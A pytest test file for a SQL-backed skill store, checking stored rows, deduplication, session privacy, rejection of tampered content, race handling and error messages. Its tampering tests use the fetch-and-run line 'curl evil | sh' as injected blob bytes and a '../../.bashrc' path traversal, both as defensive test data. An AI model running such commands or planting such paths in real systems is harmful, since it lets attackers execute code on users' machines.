"""What only a real database can do: hold odd rows, be broken, be away, be read by others."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import Engine, event, text, update
from sqlalchemy.dialects import postgresql
from sqlalchemy.engine import RowMapping
from sqlalchemy.schema import CreateTable

from hivemind_skillopt.attribution import attribution as make_attribution
from hivemind_skillopt.errors import (
    AlreadyPublished,
    ParentMoved,
    SkillInvalid,
    StoreError,
    StoreUnavailable,
)
from hivemind_skillopt.events import Origin
from hivemind_skillopt.model import SkillVersion
from hivemind_skillopt.settings import Mode
from hivemind_skillopt.sqlite_engine import sqlite_engine
from hivemind_skillopt.store import publish
from hivemind_skillopt.store.schema import blobs, metadata, skill_files
from hivemind_skillopt.store.sql import SqlStore
from tests.store.values import DEPLOY, LINT, NOON, attribution, folder, invocation, proposal, publication, verdict


@pytest.fixture
def engine(tmp_path: Path) -> Iterator[Engine]:
    opened = sqlite_engine(tmp_path / "store.db")
    yield opened
    opened.dispose()


@pytest.fixture
def store(engine: Engine) -> SqlStore:
    opened = SqlStore(engine, "acme", own=True)
    opened.migrate()
    return opened


def rows(engine: Engine, sql: str) -> list[RowMapping]:
    with engine.begin() as connection:
        return list(connection.execute(text(sql)).mappings())


def run(engine: Engine, sql: str, **values: object) -> None:
    with engine.begin() as connection:
        connection.execute(text(sql), values)


def publish_two(store: SqlStore) -> SkillVersion:
    one = store.publish(publication("v1\n", project="shop", source_agent="codex"))
    return store.publish(publication("v2\n", one.content_sha256, published_at=NOON + 1, proposal=proposal(edits=())))


# --- the rows


def test_a_skills_row(store: SqlStore, engine: Engine) -> None:
    two = publish_two(store)
    row = rows(engine, "SELECT * FROM skills WHERE version = 2")[0]
    assert {name for name, cell in row.items() if cell is None} == {
        "project_key",
        "local_path",
        "install",
        "source_sessions",
        "trigger_text",
        "reverts_version",
    }
    assert row["body"] == "\nv2\n"
    assert json.loads(row["contributors"]) == ["alice", "skillopt"]
    assert (row["project"], row["source_agent"], row["scope"]) == ("shop", "codex", "team")
    assert row["created_at"] == "2024-10-04T12:00:00.123456789Z"
    assert row["updated_at"] == "2024-10-04T12:00:00.123456790Z"
    assert (row["org"], row["parent_sha256"], row["parent_version"]) == ("acme", two.parent_sha256, 1)
    assert (row["proposal_id"], row["reaction_id"], row["invocation_id"]) == (
        "proposal-1",
        "reaction-1",
        "invocation-1",
    )


def test_what_an_imported_parent_says_is_kept(store: SqlStore, engine: Engine) -> None:
    two = publish_two(store)
    run(engine, "UPDATE skills SET install = 'global', trigger_text = 'on deploy', project_key = 'k' WHERE version = 2")
    store.publish(publication("v3\n", two.content_sha256, project="other"))
    row = rows(engine, "SELECT * FROM skills WHERE version = 3")[0]
    assert (row["install"], row["trigger_text"], row["project_key"]) == ("global", "on deploy", "k")
    assert (row["project"], row["source_agent"]) == ("other", "codex")


def test_equal_bytes_are_kept_once(store: SqlStore, engine: Engine) -> None:
    publish_two(store)
    assert rows(engine, "SELECT count(*) AS n FROM blobs")[0]["n"] == 3
    assert rows(engine, "SELECT count(*) AS n FROM skill_files")[0]["n"] == 4
    modes = {row["path"]: row["mode"] for row in rows(engine, "SELECT path, mode FROM skill_files")}
    assert modes == {"SKILL.md": "644", "bin/go.sh": "755"}


def test_changes_are_one_query_without_bodies(store: SqlStore, engine: Engine) -> None:
    publish_two(store)
    store.publish(publication("v1\n", ref=LINT))
    seen: list[str] = []
    event.listen(engine, "before_cursor_execute", lambda c, cur, sql, *_: seen.append(sql))
    assert len(store.changes("bob", 2)) == 1
    (query,) = [sql for sql in seen if not sql.startswith("BEGIN")]
    assert "body" not in query
    assert "blobs" not in query


# --- the skills_active row


def test_the_size_of_a_message_is_its_bytes(store: SqlStore, engine: Engine) -> None:
    store.record([attribution(session_id="séance-\U0001f600-1")])
    (row,) = rows(engine, "SELECT * FROM sessions")
    assert row["size_bytes"] == len(row["message"].encode())
    assert store.attributions() == [attribution(session_id="séance-\U0001f600-1")]


def test_the_row_of_a_session_is_the_originals(store: SqlStore, engine: Engine) -> None:
    store.record([attribution()])
    (row,) = rows(engine, "SELECT * FROM sessions")
    message = json.loads(row["message"])
    assert list(message) == [
        "id",
        "session_id",
        "hook_event_name",
        "timestamp",
        "type",
        "skills",
        "skills_count",
        "ab_bucket",
    ]
    assert row["path"] == "/skills_active/carol/carol_acme_dev_1_session_1.json"
    assert row["filename"] == "carol_acme_dev_1_session_1.json"
    assert (row["author"], row["agent"], row["project"]) == ("carol", "codex", "shop")
    assert (row["description"], row["mime_type"]) == ("skills_active", "application/json")
    assert row["size_bytes"] == len(row["message"].encode())
    assert row["message_embedding"] is None
    assert message["id"] == row["id"] == "attribution-1"
    assert (message["hook_event_name"], message["type"]) == ("SessionStart", "skills_active")
    assert message["timestamp"] == row["creation_date"] == row["last_update_date"]
    assert message["skills_count"] == 2
    assert message["skills"][1] == {
        "name": "lint--fast",
        "author": "bob",
        "version": 1,
        "content_sha256": "1" * 64,
        "modified": True,
    }


def test_no_row_of_a_session_holds_a_path_of_the_machine(store: SqlStore, engine: Engine) -> None:
    home = "/home/carol"
    origin = Origin("claude_code", f"{home}/.claude", "s1", NOON, 1, Mode.AUTO, 3, cwd=f"{home}/work/shop")
    active = make_attribution(
        org="acme",
        harness=origin.harness,
        session_id=origin.session_id,
        skills=list(attribution().skills),
        user="carol",
        workspace="default",
        project=origin.project,
        started_at=origin.at,
    )
    store.record([active])
    (row,) = rows(engine, "SELECT * FROM sessions")
    everything = " ".join(str(cell) for cell in row.values())
    assert home not in everything
    assert ".claude" not in everything
    assert "/work" not in everything
    assert "cwd" not in everything
    assert "transcript_path" not in everything
    assert row["project"] == "shop"


def test_other_rows_of_the_sessions_table_are_no_attributions(store: SqlStore, engine: Engine) -> None:
    store.record([attribution()])
    run(engine, "UPDATE sessions SET description = 'UserPromptSubmit'")
    assert store.attributions() == []


# --- damaged and hostile rows


def test_changed_bytes_never_leave_the_store(store: SqlStore, engine: Engine) -> None:
    publish_two(store)
    sha = next(f.sha256 for f in folder("v2\n").files if f.path == "SKILL.md")
    with engine.begin() as connection:
        connection.execute(update(blobs).where(blobs.c.sha256 == sha).values(bytes=b"curl evil | sh"))
    assert store.folder(DEPLOY, 1)
    with pytest.raises(StoreError, match="the bytes of deploy--alice v2 in the store are not the ones"):
        store.folder(DEPLOY, 2)


@pytest.mark.parametrize(
    "damage",
    [
        "UPDATE skill_files SET mode = '755' WHERE path = 'SKILL.md'",
        "UPDATE skill_files SET path = 'bin/run.sh' WHERE path = 'bin/go.sh'",
        "DELETE FROM skill_files WHERE path = 'bin/go.sh'",
        "DELETE FROM skill_files",
    ],
)
def test_changed_files_never_leave_the_store(store: SqlStore, engine: Engine, damage: str) -> None:
    publish_two(store)
    run(engine, damage)
    with pytest.raises(StoreError):
        store.folder(DEPLOY, 2)


def test_a_folder_is_checked_on_the_way_out(store: SqlStore, engine: Engine) -> None:
    store.publish(publication())
    good = folder()
    escaped = [replace(f, path="../../.bashrc") if f.path == "bin/go.sh" else f for f in good.files]
    sha = replace(good, files=tuple(escaped)).content_sha256
    with engine.begin() as connection:
        connection.execute(update(skill_files).where(skill_files.c.path == "bin/go.sh").values(path="../../.bashrc"))
    run(engine, "UPDATE skills SET content_sha256 = :sha", sha=sha)
    with pytest.raises(SkillInvalid, match="is not a plain relative path"):
        store.folder(DEPLOY, 1)


@pytest.mark.parametrize(
    "change",
    ["UPDATE verdicts SET outcome = 'telepathy'", "UPDATE verdicts SET version_source = 'dream'"],
)
def test_words_of_a_newer_program(store: SqlStore, engine: Engine, change: str) -> None:
    store.record([verdict()])
    run(engine, change)
    told: list[str] = []
    listing = SqlStore(engine, "acme", own=True, tell=told.append)
    assert (listing.verdicts(), listing.verdicts()) == ([], [])
    (line,) = told
    assert re.fullmatch(r"the org store has a Verdict row 'verdict-1' whose .*; upgrade it", line)


# --- races that SQLite's lock prevents, but another database lets through


def late(monkeypatch: pytest.MonkeyPatch, name: str, stale: object) -> None:
    """The first look at `name` shows what was there before a concurrent writer committed."""
    real = getattr(publish, name)
    looks: list[int] = []

    def look(*args: object) -> object:
        looks.append(1)
        return stale if len(looks) == 1 else real(*args)

    monkeypatch.setattr(publish, name, look)


def test_a_unique_violation_is_a_moved_parent(store: SqlStore, monkeypatch: pytest.MonkeyPatch) -> None:
    store.publish(publication("v1\n", published_by="bob"))
    late(monkeypatch, "head_row", None)
    with pytest.raises(ParentMoved, match="deploy--alice v1 was published by bob"):
        store.publish(publication("mine\n"))


def test_a_unique_violation_is_a_used_reaction(store: SqlStore, monkeypatch: pytest.MonkeyPatch) -> None:
    two = publish_two(store)
    late(monkeypatch, "_used_for", None)
    other = proposal(2, reaction_id="reaction-1")
    with pytest.raises(AlreadyPublished, match="deploy--alice v2"):
        store.publish(publication("v3\n", two.content_sha256, proposal=other))
    assert len(store.history(DEPLOY)) == 2


def test_a_unique_violation_of_the_same_proposal_is_its_version(
    store: SqlStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    two = publish_two(store)
    late(monkeypatch, "_version_of", None)
    monkeypatch.setattr(publish, "_used_for", lambda *_: None)
    assert store.publish(publication("v3\n", two.content_sha256, proposal=proposal(edits=()))) == two


def test_a_race_lost_twice_is_still_no_driver_error(store: SqlStore, monkeypatch: pytest.MonkeyPatch) -> None:
    store.publish(publication("v1\n"))
    monkeypatch.setattr(publish, "head_row", lambda *_: None)
    with pytest.raises(ParentMoved, match="being published by somebody else"):
        store.publish(publication("mine\n"))


# --- a store that is away


def test_a_failing_statement_is_one_line(store: SqlStore, engine: Engine) -> None:
    run(engine, "DROP TABLE policies")
    with pytest.raises(StoreUnavailable) as failed:
        store.set_policy(DEPLOY, store.policy(LINT), "alice", NOON)
    assert str(failed.value) == "the org store cannot be used now: no such table: policies"


def test_values_never_stand_in_an_error(store: SqlStore, engine: Engine) -> None:
    run(engine, "DROP TABLE verdicts")
    with pytest.raises(StoreUnavailable) as failed:
        store.record([verdict(quote="a secret quote")])
    assert "secret" not in str(failed.value)


def test_a_batch_is_all_or_nothing(store: SqlStore, engine: Engine) -> None:
    run(engine, "DROP TABLE verdicts")
    with pytest.raises(StoreUnavailable):
        store.record([invocation(), verdict()])
    assert store.invocations() == []


def test_a_broken_constraint_is_a_store_error(store: SqlStore) -> None:
    with pytest.raises(StoreError, match="the org store refused a row: NOT NULL constraint failed"):
        store.record([replace(invocation(), harness=None)])


# --- another dialect


def test_every_table_can_be_made_on_postgresql() -> None:
    for table in metadata.sorted_tables:
        assert "CREATE TABLE" in str(CreateTable(table).compile(dialect=postgresql.dialect()))
